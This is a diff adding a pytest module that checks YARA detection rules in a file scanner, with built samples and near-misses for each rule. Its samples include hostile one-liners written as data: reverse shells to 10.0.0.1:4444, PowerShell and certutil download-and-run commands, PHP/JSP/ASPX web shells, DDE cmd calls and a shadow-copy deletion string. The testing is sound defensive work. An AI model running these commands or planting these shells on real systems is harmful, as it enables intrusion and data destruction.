@@ -1,0 +1,156 @@
+"""Every shipped rule has samples that hit it and near-misses that do not; all are built here."""
+
+from __future__ import annotations
+
+import json
+import struct
+import zipfile
+from io import BytesIO
+from pathlib import Path
+
+import pytest
+
+from handlers.local.samples import eicar, zipped
+from plugins._rules import SHIPPED, compile_sources, read_sources
+from plugins._yara import YaraOptions, matches
+from stoq_core.testing import payload
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+LNK = b"\x4c\0\0\0\x01\x14\x02\0"
+B64 = b"QUJD" * 120
+
+
+def pe(sections: list[bytes], body: bytes = b"") -> bytes:
+    """A PE header with these section names, and bytes behind it."""
+    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
+    optional = struct.pack("<H", 0x10B) + bytes(222)
+    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, len(optional), 0x102)
+    table = b"".join(
+        name.ljust(8, b"\0") + struct.pack("<IIIIIIHHI", 16, 4096, 16, 1024, 0, 0, 0, 0, 0x60000020)
+        for name in sections
+    )
+    return (dos + coff + optional + table).ljust(1024, b"\0") + body
+
+
+def stored(name: str) -> bytes:
+    """A zip with one stored member of that name."""
+    out = BytesIO()
+    with zipfile.ZipFile(out, "w") as made:
+        made.writestr(name, b"x")
+    return out.getvalue()
+
+
+SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
+    "eicar_test_file": ([eicar(), eicar() + b"\r\n"], [b"see: " + eicar(), eicar() + bytes(200)]),
+    "zip_behind_other_bytes": ([b"MZ" + bytes(50) + zipped(a=b"x")], [zipped(a=b"x"), b"PK\x05\x06" + bytes(30)]),
+    "pe_packed_upx": ([pe([b"UPX0", b"UPX1"], b"UPX!")], [pe([b".text"], b"UPX!"), pe([b"UPX0"])]),
+    "pe_packer_section_name": ([pe([b".text", b".vmp0"]), pe([b".themida"])], [pe([b".text", b".data"])]),
+    "pe_injects_into_processes": (
+        [pe([b".text"], b"OpenProcess\0VirtualAllocEx\0WriteProcessMemory\0CreateRemoteThread\0")],
+        [pe([b".text"], b"OpenProcess\0WriteProcessMemory\0"), b"OpenProcess VirtualAllocEx WriteProcessMemory CreateRemoteThread"],
+    ),
+    "pe_ransom_note": (
+        [pe([b".text"], b"vssadmin delete shadows /all\0Your files have been encrypted. Pay bitcoin")],
+        [pe([b".text"], b"vssadmin delete shadows"), b"your files have been encrypted, bitcoin, vssadmin delete shadows"],
+    ),
+    "elf_coin_miner": (
+        [b"\x7fELF" + bytes(60) + b"stratum+tcp://pool xmrig randomx"],
+        [b"\x7fELF" + bytes(60) + b"randomx xmrig", b"stratum+tcp:// xmrig randomx"],
+    ),
+    "executable_hidden_in_document_name": ([stored("invoice.pdf.exe"), stored("a.docx    .scr")], [stored("setup.exe"), stored("a.pdf.zip")]),
+    "ole_macro_runs_on_open": (
+        [OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + b'Sub AutoOpen() CreateObject("WScript.Shell").Run'],
+        [OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + b"Sub Format()", b"AutoOpen WScript.Shell"],
+    ),
+    "ooxml_remote_template": (
+        [b'<Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'],
+        [b'<Relationship Type="http://x/relationships/attachedTemplate" Target="Normal.dotm" TargetMode="Internal"/>',
+         b'<Relationship Type="http://x/relationships/hyperlink" Target="http://a.example/" TargetMode="External"/>'],
+    ),
+    "office_dde_command": (
+        [b'<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>', b"a,b\n=cmd|'/c calc'!A1\n"],
+        [b"<w:instrText>PAGE</w:instrText>", b"a,b\n=SUM(A1:A2)\n", b"he said DDE and cmd"],
+    ),
+    "pdf_runs_on_open": (
+        [b"%PDF-1.7\n<</OpenAction 2 0 R>> <</S /JavaScript /JS (x)>>", b"%PDF-1.4 <</S /Launch /F (cmd.exe)>>"],
+        [b"%PDF-1.7\n<</OpenAction [1 0 R /Fit]>>", b"/OpenAction /JavaScript"],
+    ),
+    "rtf_equation_exploit": (
+        [b"{\\rtf1{\\object\\objdata 0105000002000000" + b"Equation.3".hex().encode() + b"}}"],
+        [b"{\\rtf1{\\object\\objdata 01050000}}", b"{\\rtf1 Equation.3}"],
+    ),
+    "powershell_download_and_run": (
+        [b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", b"iwr http://x/a -o a.exe; Start-Process a.exe; powershell -w hidden"],
+        [b"Invoke-WebRequest https://a.example/data.json -OutFile data.json", b"(New-Object Net.WebClient).Proxy"],
+    ),
+    "powershell_encoded_command": (
+        [b"powershell.exe -nop -w hidden -enc " + B64, b"powershell -e " + B64],
+        [b"powershell -ExecutionPolicy RemoteSigned -File a.ps1", b"powershell -enc QUJD"],
+    ),
+    "script_shell_dropper": (
+        [b'Set s = CreateObject("WScript.Shell"): Set h = CreateObject("MSXML2.XMLHTTP"): CreateObject("ADODB.Stream"): s.Run "a.exe"'],
+        [b'CreateObject("WScript.Shell").SpecialFolders("Desktop")', b"MSXML2.XMLHTTP ADODB.Stream"],
+    ),
+    "batch_downloads_with_system_tool": (
+        [b"certutil.exe -urlcache -split -f http://x.example/a.exe a.exe", b"mshta http://x.example/a.hta", b"bitsadmin /transfer job http://x.example/a a"],
+        [b"certutil -hashfile a.exe SHA256", b"bitsadmin /list"],
+    ),
+    "lnk_starts_script_host": (
+        [LNK + bytes(70) + "powershell -w hidden".encode("utf-16-le")],
+        [LNK + bytes(70) + "notepad.exe".encode("utf-16-le"), b"powershell hidden http"],
+    ),
+    "shell_reverse_connection": (
+        [b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", b"nc -e /bin/sh 10.0.0.1 4444",
+         b"s.connect(('h',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"],
+        [b"bash -c 'echo hi'", b"nc -l 4444", b"s.connect(('h', 1))"],
+    ),
+    "html_smuggles_file": (
+        [b"<html><script>var d=atob('" + B64 + b"');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>"],
+        [b"<html><script>a.href=URL.createObjectURL(new Blob([csv]));a.download='t.csv';a.click()</script>"],
+    ),
+    "html_password_form_to_elsewhere": (
+        [b'<form action="http://203.0.113.7/x"><input name=p type="password">', b'<title>Office 365 sign in</title><form action="next.php"><input type=password>'],
+        [b'<title>My blog</title><form action="/login"><input type="password">', b"<title>PayPal news</title>"],
+    ),
+    "php_web_shell": (
+        [b"<?php @eval($_POST['x']);", b"<?php system($_GET[c]); ?>", b"<?=`$_GET[0]`?>"],
+        [b"<?php echo htmlspecialchars($_GET['q']);", b"eval($_POST) in prose"],
+    ),
+    "php_packed_code": (
+        [b"<?php eval(gzinflate(base64_decode('" + B64 + b"')));"],
+        [b"<?php $x = base64_decode($y); echo gzinflate($x);"],
+    ),
+    "jsp_aspx_web_shell": (
+        [b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>', b'<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'],
+        [b'<%= request.getParameter("name") %>', b"<% Process.Start(path) %>"],
+    ),
+}  # fmt: skip
+
+
+def hits(content: bytes) -> set[str]:
+    """The names of the rules that match."""
+    return {one.rule for one in matches(payload(content), YaraOptions())}
+
+
+def test_every_rule_compiles_and_has_samples() -> None:
+    """No shipped rule is bad, and none is without its samples."""
+    made = compile_sources(read_sources([SHIPPED]))
+    assert made.bad == []
+    assert {one.identifier for one in made.rules} == set(SAMPLES)
+
+
+@pytest.mark.parametrize("rule", sorted(SAMPLES))
+def test_samples_hit_and_near_misses_do_not(rule: str) -> None:
+    """What the rule is for is found; what only looks like it is not."""
+    good, near = SAMPLES[rule]
+    for content in good:
+        assert rule in hits(content), content[:200]
+    for content in near:
+        assert rule not in hits(content), content[:200]
+
+
+def test_ordinary_files_have_no_findings() -> None:
+    """The standard library, and this project's own documents, are clean."""
+    root = Path(json.__file__).parent.parent
+    files = [*sorted(root.glob("*.py"))[:150], *sorted(SHIPPED.parent.glob("*.md"))]
+    assert {str(one): found for one in files if (found := hits(one.read_bytes()))} == {}
